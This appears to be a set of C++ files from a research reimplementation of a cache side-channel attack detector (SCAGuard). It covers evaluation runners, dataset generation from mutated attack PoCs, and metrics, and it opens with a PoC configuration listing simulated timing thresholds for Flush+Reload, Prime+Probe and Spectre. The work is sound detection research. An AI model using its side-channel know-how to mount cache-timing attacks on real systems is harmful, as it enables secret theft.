  /// The planted secret the PoC must recover.
  std::uint64_t secret = 7;
  /// Attack rounds (more rounds = more HPC signal, longer runtime).
  int rounds = 4;
  /// rdtscp-delta threshold separating a cached reload from a memory
  /// reload (L1 ~16, LLC ~52, DRAM ~212 with default latencies).
  std::int64_t reload_threshold = 100;
  /// Flush+Flush: delta above this means the flushed line was present
  /// (present ~60 vs absent ~42).
  std::int64_t flush_threshold = 50;
  /// Prime+Probe: probing one 16-way set takes ~780 cycles when intact
  /// and >920 when the victim displaced a way (the miss cascades through
  /// the LRU set, so displaced sets are usually far slower).
  std::int64_t probe_threshold = 850;
  /// Spectre: branch-predictor training calls per attack round.
  int trainings = 6;
};

}  // namespace scag::attacks
