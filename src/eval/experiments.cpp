#include "eval/experiments.h"

#include <algorithm>
#include <stdexcept>

#include "attacks/registry.h"
#include "baselines/learning.h"
#include "baselines/scadet.h"
#include "benign/registry.h"
#include "cfg/cfg.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::eval {

using core::Family;

core::ModelConfig experiment_model_config() {
  return core::ModelConfig{};
}

core::DtwConfig experiment_dtw_config() {
  return core::calibrated_dtw_config();
}

core::BatchConfig experiment_batch_config() {
  core::BatchConfig config;
  config.threads = 0;   // all hardware threads
  config.prune = false; // bit-identical to the serial reference
  return config;
}

// ---------- Table IV --------------------------------------------------------

namespace {

/// Ground-truth attack-relevant blocks: blocks containing at least one
/// instruction the PoC generator marked, restricted to executed blocks
/// (the paper's manual ground truth is identified on the running attack).
std::set<cfg::BlockId> ground_truth_blocks(
    const cfg::Cfg& cfg, const trace::ExecutionProfile& profile) {
  std::set<cfg::BlockId> out;
  const isa::Program& program = cfg.program();
  for (std::uint64_t addr : program.relevant_marks()) {
    const std::size_t idx = program.index_of(addr);
    if (idx == isa::Program::npos) continue;
    if (!profile.executed(idx)) continue;
    // The manual ground truth marks the attack *steps* — the cache
    // operations — not the timing reads or loop plumbing around them
    // (timing-only blocks carry no memory addresses, so no address-based
    // identification scheme could ever find them).
    const isa::Instruction& insn = program.at(idx);
    if (!isa::accesses_cache(insn)) continue;
    out.insert(cfg.block_of_instr(idx));
  }
  return out;
}

}  // namespace

std::vector<BbIdentRow> run_bb_identification(const Dataset& dataset,
                                              std::size_t max_per_family) {
  const core::ModelBuilder builder(experiment_model_config());
  std::map<Family, BbIdentRow> rows;
  std::map<Family, std::size_t> used;

  for (const Sample& sample : dataset.attacks) {
    if (used[sample.family] >= max_per_family) continue;
    ++used[sample.family];

    const cfg::Cfg cfg = cfg::Cfg::build(sample.program);
    core::ModelArtifacts artifacts;
    builder.build_from_profile(cfg, sample.profile, sample.family,
                               &artifacts);

    const std::set<cfg::BlockId> truth = ground_truth_blocks(cfg, sample.profile);
    std::set<cfg::BlockId> identified(artifacts.relevant.begin(),
                                      artifacts.relevant.end());
    std::size_t hit = 0;
    for (cfg::BlockId b : truth) hit += identified.count(b);

    BbIdentRow& row = rows[sample.family];
    row.family = std::string(core::family_abbrev(sample.family));
    row.bb += artifacts.num_blocks;
    row.tab += truth.size();
    row.iab += identified.size();
    row.itab += hit;
  }

  std::vector<BbIdentRow> out;
  for (Family f : {Family::kFlushReload, Family::kPrimeProbe,
                   Family::kSpectreFR, Family::kSpectrePP}) {
    auto it = rows.find(f);
    if (it != rows.end()) out.push_back(it->second);
  }
  return out;
}

// ---------- Table V ---------------------------------------------------------

std::vector<ScenarioRow> run_scenarios(std::uint64_t seed) {
  const core::ModelBuilder builder(experiment_model_config());
  const core::DtwConfig dtw = experiment_dtw_config();

  auto model_of = [&builder](const char* poc_name) {
    const attacks::PocSpec& spec = attacks::poc_by_name(poc_name);
    return builder.build(spec.build(attacks::PocConfig{}), spec.family);
  };

  const core::AttackModel fr = model_of("FR-IAIK");
  const core::AttackModel fr2 = model_of("FR-Nepoche");
  const core::AttackModel er = model_of("ER-IAIK");
  const core::AttackModel pp = model_of("PP-IAIK");
  const core::AttackModel sfr = model_of("Spectre-FR-Ideal");

  Rng rng(seed);
  const isa::Program benign_prog = benign::generate_benign(0, rng);
  const core::AttackModel ben = builder.build(benign_prog, Family::kBenign);

  auto sim = [&dtw](const core::AttackModel& a, const core::AttackModel& b) {
    return core::similarity(a.sequence, b.sequence, dtw);
  };

  return {
      {"S1", "Flush+Reload vs another implementation",
       "Different implementations of the same attack", sim(fr, fr2)},
      {"S2", "Flush+Reload vs Evict+Reload",
       "Different variants of the same attack", sim(fr, er)},
      {"S3", "Flush+Reload vs Prime+Probe",
       "Different attacks exploiting the same vulnerability", sim(fr, pp)},
      {"S4", "Flush+Reload vs its Spectre variant",
       "Different variants exploiting different vulnerabilities",
       sim(fr, sfr)},
      {"S5", "Flush+Reload vs benign program",
       "An attack program and a benign program", sim(fr, ben)},
  };
}

// ---------- Table VI --------------------------------------------------------

std::string_view approach_name(Approach a) {
  switch (a) {
    case Approach::kSvmNw: return "SVM-NW";
    case Approach::kLrNw: return "LR-NW";
    case Approach::kKnnMlfm: return "KNN-MLFM";
    case Approach::kScadet: return "SCADET";
    case Approach::kScaguard: return "SCAGUARD";
  }
  return "<bad-approach>";
}

std::string_view task_name(Task t) {
  switch (t) {
    case Task::kE1: return "E1: Mutated variants";
    case Task::kE2: return "E2: Spectre-like variants";
    case Task::kE3_1: return "E3-1: PP-F (FR known)";
    case Task::kE3_2: return "E3-2: FR-F (PP known)";
    case Task::kE4: return "E4: Obfuscated variants";
  }
  return "<bad-task>";
}

namespace {

/// The designated repository PoC for each family (the paper enrolls "only
/// one PoC for each attack type").
const char* designated_poc(Family f) {
  switch (f) {
    case Family::kFlushReload: return "FR-IAIK";
    case Family::kPrimeProbe: return "PP-IAIK";
    case Family::kSpectreFR: return "Spectre-FR-Ideal";
    case Family::kSpectrePP: return "Spectre-PP-Trippel";
    default: return nullptr;
  }
}

/// One classification task: which families are known (trained/enrolled),
/// and the labeled test set. `truth_map` remaps a test sample's true family
/// onto the label that counts as correct (e.g. S-FR -> FR-F in E2).
struct TaskSpec {
  std::vector<Family> known_families;
  std::vector<std::pair<const Sample*, Family>> test;  // sample, truth
  std::vector<Family> metric_classes;
  /// Training samples for the learning baselines (the "known" corpus).
  std::vector<const Sample*> train;
  std::vector<Family> train_labels;
};

/// Splits each family's samples into halves: the first half is available
/// for training, the second for testing (deterministic split; samples were
/// generated in seeded order).
template <typename Pred>
void split_family(const Dataset& ds, Family f, Pred use_obfuscated,
                  std::vector<const Sample*>& train_half,
                  std::vector<const Sample*>& test_half) {
  const auto pool = ds.of_family(f, use_obfuscated(f));
  const std::size_t half = pool.size() / 2;
  for (std::size_t i = 0; i < pool.size(); ++i) {
    (i < half ? train_half : test_half).push_back(pool[i]);
  }
}

TaskSpec build_task(const Dataset& ds, Task task) {
  TaskSpec spec;
  auto no_obf = [](Family) { return false; };

  // Benign halves are shared by all tasks: train on the first half,
  // test false positives on the second half.
  std::vector<const Sample*> benign_train, benign_test;
  split_family(ds, Family::kBenign, no_obf, benign_train, benign_test);

  auto add_train = [&spec](const std::vector<const Sample*>& samples,
                           Family label) {
    for (const Sample* s : samples) {
      spec.train.push_back(s);
      spec.train_labels.push_back(label);
    }
  };
  auto add_test = [&spec](const std::vector<const Sample*>& samples,
                          Family truth) {
    for (const Sample* s : samples) spec.test.emplace_back(s, truth);
  };

  switch (task) {
    case Task::kE1: {
      spec.known_families = {Family::kFlushReload, Family::kPrimeProbe,
                             Family::kSpectreFR, Family::kSpectrePP};
      spec.metric_classes = spec.known_families;
      for (Family f : spec.known_families) {
        std::vector<const Sample*> tr, te;
        split_family(ds, f, no_obf, tr, te);
        add_train(tr, f);
        add_test(te, f);
      }
      break;
    }
    case Task::kE2: {
      spec.known_families = {Family::kFlushReload, Family::kPrimeProbe};
      spec.metric_classes = spec.known_families;
      for (Family f : spec.known_families) {
        std::vector<const Sample*> tr, te;
        split_family(ds, f, no_obf, tr, te);
        add_train(tr, f);
      }
      // Spectre-like variants count as their non-spectre counterpart.
      add_test(ds.of_family(Family::kSpectreFR), Family::kFlushReload);
      add_test(ds.of_family(Family::kSpectrePP), Family::kPrimeProbe);
      break;
    }
    case Task::kE3_1: {
      spec.known_families = {Family::kFlushReload};
      spec.metric_classes = {Family::kFlushReload};
      std::vector<const Sample*> tr, te;
      split_family(ds, Family::kFlushReload, no_obf, tr, te);
      add_train(tr, Family::kFlushReload);
      // Detecting a PP sample via the FR models counts as correct.
      add_test(ds.of_family(Family::kPrimeProbe), Family::kFlushReload);
      break;
    }
    case Task::kE3_2: {
      spec.known_families = {Family::kPrimeProbe};
      spec.metric_classes = {Family::kPrimeProbe};
      std::vector<const Sample*> tr, te;
      split_family(ds, Family::kPrimeProbe, no_obf, tr, te);
      add_train(tr, Family::kPrimeProbe);
      add_test(ds.of_family(Family::kFlushReload), Family::kPrimeProbe);
      break;
    }
    case Task::kE4: {
      spec.known_families = {Family::kFlushReload, Family::kPrimeProbe};
      spec.metric_classes = spec.known_families;
      for (Family f : spec.known_families) {
        std::vector<const Sample*> tr, te;
        split_family(ds, f, no_obf, tr, te);
        add_train(tr, f);
      }
      for (const Sample& s : ds.obfuscated)
        spec.test.emplace_back(&s, s.family);
      break;
    }
  }

  add_train(benign_train, Family::kBenign);
  add_test(benign_test, Family::kBenign);
  return spec;
}

Prf evaluate_predictions(
    const TaskSpec& spec,
    const std::vector<Family>& predictions) {
  ConfusionMatrix cm;
  for (std::size_t i = 0; i < spec.test.size(); ++i)
    cm.add(spec.test[i].second, predictions[i]);
  return cm.macro(spec.metric_classes);
}

}  // namespace

core::Detector make_scaguard(const std::vector<Family>& families,
                             double threshold) {
  core::Detector detector(experiment_model_config(), experiment_dtw_config(),
                          threshold);
  for (Family f : families) {
    const char* name = designated_poc(f);
    if (name == nullptr) throw std::invalid_argument("make_scaguard: benign");
    const attacks::PocSpec& spec = attacks::poc_by_name(name);
    detector.enroll(spec.build(attacks::PocConfig{}), f);
  }
  return detector;
}

core::Family scaguard_classify(const core::Detector& detector,
                               const Sample& sample) {
  const cfg::Cfg cfg = cfg::Cfg::build(sample.program);
  const core::AttackModel model = detector.builder().build_from_profile(
      cfg, sample.profile, sample.family);
  return detector.scan(model.sequence).verdict;
}

std::vector<core::Detection> scaguard_scan_batch(
    const core::Detector& detector,
    const std::vector<const Sample*>& samples) {
  static support::Counter& c_samples =
      support::Registry::global().counter("eval.samples_scanned");
  support::TraceScope span("eval.scan_batch");
  c_samples.add(samples.size());
  const core::BatchDetector batch(detector, experiment_batch_config());
  return batch.scan_modeled(samples.size(), [&](std::size_t i) {
    const Sample& sample = *samples[i];
    const cfg::Cfg cfg = cfg::Cfg::build(sample.program);
    return detector.builder()
        .build_from_profile(cfg, sample.profile, sample.family)
        .sequence;
  });
}

Table6 run_classification(const Dataset& dataset, std::uint64_t seed) {
  Table6 table;
  Rng rng(seed);

  for (Task task : {Task::kE1, Task::kE2, Task::kE3_1, Task::kE3_2,
                    Task::kE4}) {
    const std::string_view tn = task_name(task);
    support::TraceScope task_span("eval.task." +
                                  std::string(tn.substr(0, tn.find(':'))));
    const TaskSpec spec = build_task(dataset, task);

    // ---- Learning baselines.
    for (auto [approach, kind] :
         {std::pair{Approach::kSvmNw, baselines::LearnerKind::kSvmNw},
          std::pair{Approach::kLrNw, baselines::LearnerKind::kLrNw},
          std::pair{Approach::kKnnMlfm, baselines::LearnerKind::kKnnMlfm}}) {
      baselines::LearningDetector detector(kind);
      std::vector<trace::ExecutionProfile> train_profiles;
      train_profiles.reserve(spec.train.size());
      for (const Sample* s : spec.train) train_profiles.push_back(s->profile);
      Rng train_rng = rng.split();
      detector.train(train_profiles, spec.train_labels, train_rng);

      std::vector<Family> predictions;
      predictions.reserve(spec.test.size());
      for (const auto& [sample, truth] : spec.test) {
        (void)truth;
        Family predicted = detector.classify(sample->profile);
        // A learning model can only emit labels it was trained with; any
        // attack label counts toward the sample's remapped truth class if
        // they match.
        predictions.push_back(predicted);
      }
      table.results[approach][task] = evaluate_predictions(spec, predictions);
    }

    // ---- SCADET.
    {
      std::vector<Family> predictions;
      predictions.reserve(spec.test.size());
      for (const auto& [sample, truth] : spec.test) {
        (void)truth;
        const cfg::Cfg cfg = cfg::Cfg::build(sample->program);
        const baselines::ScadetResult r =
            baselines::scadet_detect(cfg, sample->profile);
        predictions.push_back(r.verdict);
      }
      table.results[Approach::kScadet][task] =
          evaluate_predictions(spec, predictions);
    }

    // ---- SCAGuard (batch path: modeling and scanning parallelized;
    // pruning stays off so the verdicts match the serial reference
    // bit-for-bit).
    {
      const core::Detector detector = make_scaguard(spec.known_families);
      std::vector<const Sample*> samples;
      samples.reserve(spec.test.size());
      for (const auto& [sample, truth] : spec.test) {
        (void)truth;
        samples.push_back(sample);
      }
      const std::vector<core::Detection> detections =
          scaguard_scan_batch(detector, samples);
      std::vector<Family> predictions;
      predictions.reserve(detections.size());
      for (const core::Detection& det : detections)
        predictions.push_back(det.verdict);
      table.results[Approach::kScaguard][task] =
          evaluate_predictions(spec, predictions);
    }
  }
  return table;
}

// ---------- Fig. 5 ----------------------------------------------------------

std::vector<ThresholdPoint> run_threshold_sweep(
    const Dataset& dataset, const std::vector<double>& thresholds) {
  const TaskSpec spec = build_task(dataset, Task::kE1);
  core::Detector detector =
      make_scaguard({Family::kFlushReload, Family::kPrimeProbe,
                     Family::kSpectreFR, Family::kSpectrePP});

  // Score each test sample once (through the batch engine; the sweep needs
  // every exact score, so pruning stays off); re-thresholding is then free.
  struct Scored {
    Family truth;
    Family best_family = Family::kBenign;
    double best_score = 0.0;
  };
  std::vector<const Sample*> samples;
  samples.reserve(spec.test.size());
  for (const auto& [sample, truth] : spec.test) {
    (void)truth;
    samples.push_back(sample);
  }
  const std::vector<core::Detection> detections =
      scaguard_scan_batch(detector, samples);
  std::vector<Scored> scored;
  scored.reserve(spec.test.size());
  for (std::size_t i = 0; i < spec.test.size(); ++i) {
    const core::Detection& det = detections[i];
    Scored s;
    s.truth = spec.test[i].second;
    if (!det.scores.empty()) {
      s.best_family = det.scores.front().family;
      s.best_score = det.scores.front().score;
    }
    scored.push_back(s);
  }

  std::vector<ThresholdPoint> out;
  for (double threshold : thresholds) {
    ConfusionMatrix cm;
    for (const Scored& s : scored) {
      const Family predicted =
          s.best_score >= threshold ? s.best_family : Family::kBenign;
      cm.add(s.truth, predicted);
    }
    out.push_back({threshold, cm.macro(spec.metric_classes)});
  }
  return out;
}

}  // namespace scag::eval
