// Scenario matrix: attack x defense x noise x spy-count grid.
//
// The paper evaluates one spy probing an undefended LRU cache. This module
// answers the question that setup cannot: does CST-BBS similarity still
// detect an attack whose cache-state signature is distorted by a
// SHARP-style defended LLC (cache::DefensePolicy::kSharp), jittered by HPC
// sampling noise, or split across 2..4 cooperating spies whose merged
// trace (trace/merge.h) is the only place the full attack exists?
//
// The detector under test is always enrolled on the paper's protocol —
// one designated single-spy PoC per family, clean and undefended — so
// every matrix cell measures generalization, never re-enrollment. Each
// cell is run for a set of planted secrets; the targets it models are
// returned alongside the rates so the differential battery
// (tests/differential_scan.h) can assert every cell's verdict bit-identical
// across kernels, thread counts, index modes, and the zero-copy store.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "cache/cache.h"
#include "core/detector.h"
#include "core/model.h"

namespace scag::eval {

/// One cell of the scenario grid.
struct ScenarioCell {
  /// PoC name: in attacks::all_pocs() when spies == 1, in
  /// attacks::all_multi_spy_specs() when spies >= 2.
  std::string attack;
  core::Family family = core::Family::kBenign;
  cache::DefensePolicy defense = cache::DefensePolicy::kNone;
  /// ExecOptions::sample_noise on the trace collection run. Jitters the
  /// sampled HPC snapshot series only; per-instruction attribution (what
  /// CST-BBS modeling consumes) stays exact, so SCAGuard is expected flat
  /// along this axis — the grid states that instead of assuming it.
  double noise = 0.0;
  int spies = 1;

  /// Human-readable cell id, e.g. "FR-IAIK/sharp/n40/s1".
  std::string label() const;
  /// Telemetry-safe key ([a-z0-9_]), e.g. "fr_iaik__sharp__n40__s1".
  std::string telemetry_key() const;
};

/// The grid. smoke = reduced (2 attacks x 2 defenses + one 2-spy attack x
/// 2 defenses, noise 0 only) for CI smokes; full = every single-spy
/// designated PoC and both multi-spy attacks x both defenses x 3 noise
/// levels x spy counts {2,3,4}.
std::vector<ScenarioCell> scenario_grid(bool smoke);

/// The detector every cell scans against: the four designated PoCs of
/// eval::make_scaguard, enrolled clean/undefended/single-spy.
core::Detector make_scenario_detector();

/// One modeled run of a cell with a planted secret.
struct ScenarioRun {
  core::CstBbs target;      // CST-BBS model of the (merged) trace
  bool recovered = false;   // PoC's (cooperative) recovery hit the secret
  std::uint64_t sharp_alarms = 0;  // per-run LLC alarms, both owners
};

/// Builds, executes, and models one target of `cell` (merging spy traces
/// when cell.spies >= 2). Deterministic per (cell, secret).
ScenarioRun run_scenario_target(const ScenarioCell& cell,
                                std::uint64_t secret);

/// Aggregated rates of one cell over `secrets`.
struct CellResult {
  ScenarioCell cell;
  double detection_rate = 0.0;       // fraction with verdict != benign
  double classification_rate = 0.0;  // fraction with verdict == cell.family
  double recovery_rate = 0.0;        // fraction recovering the secret
  double mean_best_score = 0.0;
  std::uint64_t sharp_alarms = 0;    // summed over runs
  std::vector<core::CstBbs> targets;       // one per secret
  std::vector<core::Detection> detections;  // detector.scan() per target
};

CellResult run_scenario_cell(const core::Detector& detector,
                             const ScenarioCell& cell,
                             const std::vector<std::uint64_t>& secrets);

/// Models each spy's INDIVIDUAL trace of a multi-spy cell (no merging):
/// one CST-BBS per spy, same execution options as run_scenario_target.
/// Measures how much of the attack signature survives in a lone
/// cooperating spy. Throws std::invalid_argument when cell.spies < 2.
std::vector<core::CstBbs> run_spy_targets(const ScenarioCell& cell,
                                          std::uint64_t secret);

/// Exhaustive string-kernel ground truth (the gtest-free twin of
/// testutil::exhaustive_oracle): direct core::similarity against every
/// repository model, reduced by Detector::finalize. The bench compares
/// every cell verdict against this and exits nonzero on divergence.
core::Detection exhaustive_scan(const core::Detector& detector,
                                const core::CstBbs& target);

/// Bit-level verdict equivalence: verdict, best_score (IEEE-754 bits),
/// and winning model name all equal.
bool detection_equivalent(const core::Detection& a, const core::Detection& b);

}  // namespace scag::eval
