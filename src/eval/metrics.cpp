#include "eval/metrics.h"

namespace scag::eval {

void ConfusionMatrix::add(core::Family truth, core::Family predicted) {
  m_[static_cast<int>(truth)][static_cast<int>(predicted)] += 1;
  ++total_;
}

std::uint64_t ConfusionMatrix::count(core::Family truth,
                                     core::Family predicted) const {
  return m_[static_cast<int>(truth)][static_cast<int>(predicted)];
}

Prf ConfusionMatrix::prf(core::Family cls) const {
  const int c = static_cast<int>(cls);
  std::uint64_t tp = m_[c][c], fp = 0, fn = 0;
  for (int other = 0; other < kNumClasses; ++other) {
    if (other == c) continue;
    fp += m_[other][c];
    fn += m_[c][other];
  }
  Prf out;
  out.precision = (tp + fp) == 0
                      ? 0.0
                      : static_cast<double>(tp) / static_cast<double>(tp + fp);
  out.recall = (tp + fn) == 0
                   ? 0.0
                   : static_cast<double>(tp) / static_cast<double>(tp + fn);
  out.f1 = f1_score(out.precision, out.recall);
  return out;
}

Prf ConfusionMatrix::macro(const std::vector<core::Family>& classes) const {
  Prf acc;
  if (classes.empty()) return acc;
  for (core::Family c : classes) {
    const Prf p = prf(c);
    acc.precision += p.precision;
    acc.recall += p.recall;
    acc.f1 += p.f1;
  }
  const double n = static_cast<double>(classes.size());
  acc.precision /= n;
  acc.recall /= n;
  acc.f1 /= n;
  return acc;
}

double ConfusionMatrix::accuracy() const {
  if (total_ == 0) return 0.0;
  std::uint64_t correct = 0;
  for (int c = 0; c < kNumClasses; ++c) correct += m_[c][c];
  return static_cast<double>(correct) / static_cast<double>(total_);
}

}  // namespace scag::eval
