#include "eval/dataset.h"

#include <stdexcept>

#include "attacks/registry.h"
#include "benign/registry.h"
#include "mutation/mutator.h"

namespace scag::eval {

namespace {

cpu::ExecOptions exec_options(std::uint64_t sample_interval,
                              double sample_noise) {
  cpu::ExecOptions opts;
  opts.sample_interval = sample_interval;
  opts.sample_noise = sample_noise;  // live-system HPC jitter
  return opts;
}

/// Runs a candidate mutant and checks it still recovers the secret.
bool attack_still_works(const isa::Program& program,
                        const attacks::PocConfig& poc_config) {
  cpu::Interpreter interp;
  const cpu::RunResult r = interp.run(program);
  return r.profile.exit == trace::ExitReason::kHalted &&
         r.memory.read(poc_config.layout.recovered_addr) == poc_config.secret;
}

/// Produces one validated attack variant of `spec`.
Sample make_attack_sample(const attacks::PocSpec& spec, Rng& rng,
                          const DatasetConfig& config, bool obfuscate,
                          std::size_t index) {
  for (int attempt = 0; attempt < config.max_mutation_tries; ++attempt) {
    attacks::PocConfig poc_config;
    poc_config.secret = 1 + rng.below(15);  // 1..15 (Spectre slot-0 rule)
    poc_config.rounds = 3 + static_cast<int>(rng.below(4));
    poc_config.trainings = 5 + static_cast<int>(rng.below(3));
    isa::Program base = spec.build(poc_config);
    Rng mut_rng = rng.split();
    isa::Program variant = obfuscate
                               ? mutation::obfuscate(base, mut_rng)
                               : mutation::mutate(base, mut_rng);
    if (!attack_still_works(variant, poc_config)) continue;

    Sample sample;
    sample.name = spec.name + (obfuscate ? "+obf-" : "+mut-") +
                  std::to_string(index);
    sample.family = spec.family;
    sample.obfuscated = obfuscate;
    sample.profile = profile_program(variant, config.sample_interval,
                                     config.sample_noise);
    sample.program = std::move(variant);
    return sample;
  }
  throw std::runtime_error("dataset: could not produce a working mutant of " +
                           spec.name);
}

}  // namespace

trace::ExecutionProfile profile_program(const isa::Program& program,
                                        std::uint64_t sample_interval,
                                        double sample_noise) {
  cpu::ExecOptions opts = exec_options(sample_interval, sample_noise);
  // Distinct noise stream per program so jitter is not shared.
  for (char ch : program.name()) opts.noise_seed = opts.noise_seed * 131 + static_cast<unsigned char>(ch);
  cpu::Interpreter interp(opts);
  return interp.run(program).profile;
}

std::vector<const Sample*> Dataset::of_family(core::Family f,
                                              bool include_obfuscated) const {
  std::vector<const Sample*> out;
  const auto& pool = f == core::Family::kBenign ? benign : attacks;
  for (const Sample& s : pool)
    if (s.family == f) out.push_back(&s);
  if (include_obfuscated)
    for (const Sample& s : obfuscated)
      if (s.family == f) out.push_back(&s);
  return out;
}

Dataset generate_dataset(const DatasetConfig& config) {
  Dataset ds;
  Rng rng(config.seed);

  // ---- Attack mutants: cycle each family's collected PoCs (Table II).
  const core::Family families[] = {
      core::Family::kFlushReload, core::Family::kPrimeProbe,
      core::Family::kSpectreFR, core::Family::kSpectrePP};
  for (core::Family family : families) {
    const auto pocs = attacks::pocs_of_family(family);
    for (std::size_t i = 0; i < config.samples_per_type; ++i) {
      const attacks::PocSpec& spec = pocs[i % pocs.size()];
      ds.attacks.push_back(
          make_attack_sample(spec, rng, config, /*obfuscate=*/false, i));
    }
  }

  // ---- Obfuscated variants of FR-F and PP-F (E4).
  for (core::Family family :
       {core::Family::kFlushReload, core::Family::kPrimeProbe}) {
    const auto pocs = attacks::pocs_of_family(family);
    for (std::size_t i = 0; i < config.obfuscated_per_family; ++i) {
      const attacks::PocSpec& spec = pocs[i % pocs.size()];
      ds.obfuscated.push_back(
          make_attack_sample(spec, rng, config, /*obfuscate=*/true, i));
    }
  }

  // ---- Benign programs (Table III).
  for (std::size_t i = 0; i < config.samples_per_type; ++i) {
    Sample sample;
    Rng gen_rng = rng.split();
    sample.program = benign::generate_benign(i, gen_rng);
    sample.name = sample.program.name();
    sample.family = core::Family::kBenign;
    sample.profile = profile_program(sample.program, config.sample_interval,
                                     config.sample_noise);
    ds.benign.push_back(std::move(sample));
  }

  return ds;
}

}  // namespace scag::eval
