// Classification metrics: confusion matrix over Family labels and the
// macro-averaged precision/recall/F1 the paper reports in Table VI.
#pragma once

#include <array>
#include <vector>

#include "core/family.h"
#include "support/stats.h"

namespace scag::eval {

inline constexpr int kNumClasses = static_cast<int>(core::Family::kCount);

class ConfusionMatrix {
 public:
  /// Records one (truth, prediction) pair.
  void add(core::Family truth, core::Family predicted);

  std::uint64_t count(core::Family truth, core::Family predicted) const;
  std::uint64_t total() const { return total_; }

  /// Precision/recall/F1 of one class (one-vs-rest).
  Prf prf(core::Family cls) const;

  /// Macro average over the given classes (the paper averages over the
  /// attack classes present in each task; benign only contributes false
  /// positives).
  Prf macro(const std::vector<core::Family>& classes) const;

  /// Fraction of exactly-correct predictions.
  double accuracy() const;

 private:
  std::array<std::array<std::uint64_t, kNumClasses>, kNumClasses> m_{};
  std::uint64_t total_ = 0;
};

}  // namespace scag::eval
