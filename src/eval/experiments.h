// Experiment runners for every table and figure of the paper's evaluation.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "core/batch_detector.h"
#include "core/detector.h"
#include "eval/dataset.h"
#include "eval/metrics.h"

namespace scag::eval {

/// Canonical configurations shared by ALL experiments (fixed once; see
/// DESIGN.md on calibration).
core::ModelConfig experiment_model_config();
core::DtwConfig experiment_dtw_config();
/// Batch-scan engine configuration for dataset runs: all hardware threads,
/// pruning OFF so every reported number stays bit-identical to the serial
/// reference path (the parallel engine's equivalence guarantee).
core::BatchConfig experiment_batch_config();
inline constexpr double kThreshold = 0.45;  // paper Section V

// ---------- Table IV: attack-relevant BB identification -------------------

struct BbIdentRow {
  std::string family;   // FR-F, PP-F, S-FR, S-PP
  std::uint64_t bb = 0;    // #BB   : total basic blocks
  std::uint64_t tab = 0;   // #TAB  : ground-truth attack-relevant blocks
  std::uint64_t iab = 0;   // #IAB  : identified attack-relevant blocks
  std::uint64_t itab = 0;  // #ITAB : ground-truth blocks identified
  double accuracy() const {
    return tab == 0 ? 0.0
                    : static_cast<double>(itab) / static_cast<double>(tab);
  }
};

/// Aggregates identification counts per family over up to `max_per_family`
/// attack samples from the dataset.
std::vector<BbIdentRow> run_bb_identification(
    const Dataset& dataset,
    std::size_t max_per_family = static_cast<std::size_t>(-1));

// ---------- Table V: similarity of 5 typical scenarios --------------------

struct ScenarioRow {
  std::string id;
  std::string scenario;
  std::string description;
  double score = 0.0;
};

/// S1..S5 on freshly built PoC models (plus one benign program).
std::vector<ScenarioRow> run_scenarios(std::uint64_t seed = 7);

// ---------- Table VI: classification E1..E4 vs baselines -------------------

enum class Approach { kSvmNw, kLrNw, kKnnMlfm, kScadet, kScaguard };
std::string_view approach_name(Approach a);

enum class Task { kE1, kE2, kE3_1, kE3_2, kE4 };
std::string_view task_name(Task t);

struct Table6 {
  /// prf[approach][task]
  std::map<Approach, std::map<Task, Prf>> results;
};

/// Runs all five tasks for all five approaches on the dataset.
/// SCAGuard enrolls one PoC per *known* attack type; the learning baselines
/// train (with internal 10-fold CV model selection) on the known half of
/// the corpus; SCADET applies its fixed rules.
Table6 run_classification(const Dataset& dataset, std::uint64_t seed = 11);

// ---------- Fig. 5: threshold sweep ----------------------------------------

struct ThresholdPoint {
  double threshold = 0.0;
  Prf prf;
};

/// SCAGuard-only E1-style classification swept over the threshold.
std::vector<ThresholdPoint> run_threshold_sweep(
    const Dataset& dataset, const std::vector<double>& thresholds);

// ---------- Shared helpers --------------------------------------------------

/// Builds the SCAGuard repository from the base PoCs of `families`
/// (one designated PoC per family, as in the paper's protocol).
core::Detector make_scaguard(const std::vector<core::Family>& families,
                             double threshold = kThreshold);

/// SCAGuard classification of one sample (reusing its collected profile).
core::Family scaguard_classify(const core::Detector& detector,
                               const Sample& sample);

/// Batch variant: models every sample concurrently (reusing the collected
/// profiles) and scans them through the parallel engine. Detections are
/// bit-identical to calling scaguard_classify per sample.
std::vector<core::Detection> scaguard_scan_batch(
    const core::Detector& detector,
    const std::vector<const Sample*>& samples);

}  // namespace scag::eval
