// Dataset generation: the Table II / Table III corpus.
//
//   - per attack type, `samples_per_type` validated mutants of the type's
//     collected PoCs (mutation must preserve the attack: each mutant is
//     re-executed and must still recover the planted secret, mirroring the
//     paper's "we retain the attack functionality during mutation")
//   - obfuscated variants of FR-F and PP-F for E4
//   - `samples_per_type` benign programs from the benign generators
//
// Every sample is executed once (with HPC sampling enabled) and carries its
// profile; SCAGuard modeling, SCADET, and the learning baselines all reuse
// that single execution.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/family.h"
#include "cpu/interpreter.h"
#include "isa/program.h"
#include "support/rng.h"
#include "trace/profile.h"

namespace scag::eval {

struct Sample {
  std::string name;
  core::Family family = core::Family::kBenign;  // ground truth
  bool obfuscated = false;
  isa::Program program;
  trace::ExecutionProfile profile;
};

struct DatasetConfig {
  /// Samples per attack type and benign count (paper: 400).
  std::size_t samples_per_type = 400;
  /// Obfuscated variants per source family for E4 (paper: 400 each for
  /// FR-F and PP-F).
  std::size_t obfuscated_per_family = 400;
  std::uint64_t seed = 2023;
  /// HPC sampling period for the learning baselines' time series.
  std::uint64_t sample_interval = 2000;
  /// Relative jitter applied to the sampled counters (live-system HPC
  /// noise; see cpu::ExecOptions::sample_noise).
  double sample_noise = 0.1;
  /// Retries for producing a still-functional mutant.
  int max_mutation_tries = 8;
};

struct Dataset {
  std::vector<Sample> attacks;     // 4 types x samples_per_type
  std::vector<Sample> obfuscated;  // FR-F and PP-F obfuscated variants
  std::vector<Sample> benign;      // samples_per_type benign programs

  std::vector<const Sample*> of_family(core::Family f,
                                       bool include_obfuscated = false) const;
};

/// Generates the full corpus. Deterministic in `config.seed`.
Dataset generate_dataset(const DatasetConfig& config = {});

/// Executes a program with the dataset's standard options and returns its
/// profile (used for PoC model building so repository models see the same
/// conditions as samples).
trace::ExecutionProfile profile_program(const isa::Program& program,
                                        std::uint64_t sample_interval,
                                        double sample_noise = 0.1);

}  // namespace scag::eval
