#include "eval/scenario_matrix.h"

#include <array>
#include <bit>
#include <cmath>
#include <stdexcept>

#include "attacks/registry.h"
#include "cfg/cfg.h"
#include "core/dtw.h"
#include "cpu/interpreter.h"
#include "eval/experiments.h"
